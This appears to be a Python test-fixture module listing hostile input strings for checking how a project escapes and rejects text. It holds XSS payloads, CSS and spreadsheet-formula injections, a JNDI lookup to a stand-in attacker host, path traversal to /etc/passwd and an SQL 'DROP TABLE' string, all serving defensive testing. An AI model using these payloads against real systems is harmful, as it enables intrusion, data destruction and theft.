"""Strings that do something where they are taken for more than text. The alarm of each is `window.caviar_xss`."""

from typing import Final

ALARM: Final = "window.caviar_xss=1"

SCRIPTS: Final = (
    f"<script>{ALARM}</script>",
    f"<ScRiPt>{ALARM}</sCrIpT>",
    f"</script><script>{ALARM}</script>",
    f"</title><script>{ALARM}</script>",
    f"</textarea><script>{ALARM}</script>",
    f"</style><script>{ALARM}</script>",
    f"--><script>{ALARM}</script>",
    f"<!--<script>{ALARM}</script>",
    f"]]><script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f"<img src=x onerror='{ALARM}'>",
    f'"><img src=x onerror="{ALARM}">',
    f"'><img src=x onerror={ALARM}>",
    f"`><img src=x onerror={ALARM}>",
    f"<svg onload={ALARM}>",
    f"<svg/onload={ALARM}//",
    f"<svg><script>{ALARM}</script></svg>",
    f"<svg><animate onbegin={ALARM} attributeName=x dur=1s>",
    f"<math><mtext></mtext><script>{ALARM}</script></math>",
    f"<body onload={ALARM}>",
    f"<input autofocus onfocus={ALARM}>",
    f"<details open ontoggle={ALARM}>x</details>",
    f"<video><source onerror={ALARM}></video>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'></iframe>",
    f"<iframe src='javascript:parent.{ALARM}'></iframe>",
    f"<object data='javascript:{ALARM}'></object>",
    f"<a href='javascript:{ALARM}'>click</a>",
    f"<a href=' jAvAsCrIpT:{ALARM}'>click</a>",
    f"javascript:{ALARM}",
    f"data:text/html,<script>{ALARM}</script>",
    f"<form action='javascript:{ALARM}'><button>x</button></form>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={ALARM}>",
    f"<style onload={ALARM}>*{{}}</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALARM}'>",
    "<base href='https://evil.example/'>",
    f"<marquee onstart={ALARM}>x</marquee>",
    f"<template><script>{ALARM}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ALARM}>'></noscript>",
    f"' onmouseover='{ALARM}",
    f'" autofocus onfocus="{ALARM}',
    f"';{ALARM};//",
    f'";{ALARM};//',
    f"\\';{ALARM};//",
    f"${{{ALARM}}}",
    f"{{{{constructor.constructor('{ALARM}')()}}}}",
    f"&lt;script&gt;{ALARM}&lt;/script&gt;",
    f"&#x3C;script&#x3E;{ALARM}&#x3C;/script&#x3E;",
    f"\u2028{ALARM}\u2029",
    f"\ufeff<script>{ALARM}</script>",
    f"＜script＞{ALARM}＜/script＞",
    f"<sub>{ALARM}</sub><b>bold</b><br>line",
    f"<a href='javascript:{ALARM}'>x</a><sup>plotly</sup>",
)
"""The last two are what a picture of plotly.js would take for its own mark-up."""

CSS: Final = (
    "red;background:url(https://evil.example/)",
    "expression(window.caviar_xss=1)",
    "}*{background:url(javascript:window.caviar_xss=1)}",
)

SPREADSHEET: Final = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK('https://evil.example')", "\t=1+1")
"""What a spreadsheet would compute when an exported file is opened."""

UNCOUTH: Final = (
    *("\u202etxt.exe", "a\u200bb", "Z͑ͫ̓ͪ̂ͫ̽a͎", "﷽" * 20, "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "x" * 199, "%s%n%x", "${jndi:ldap://evil.example/a}"),
    *(
        "../../../etc/passwd",
        "C:\\windows",
        "' OR 1=1 --",
        '"; DROP TABLE studies; --',
        "null",
        "undefined",
        "NaN",
        "__proto__",
    ),
)

FORBIDDEN: Final = ("\x00", "a\x00b", "\x1b[2J", "\x07", "\x08", "\x0b", "\x0c", "\x7f", "\ud800", "\udfff x")
"""Refused wherever a text is taken: controls, and halves of surrogate pairs."""

ALL: Final = (*SCRIPTS, *CSS, *SPREADSHEET, *UNCOUTH)
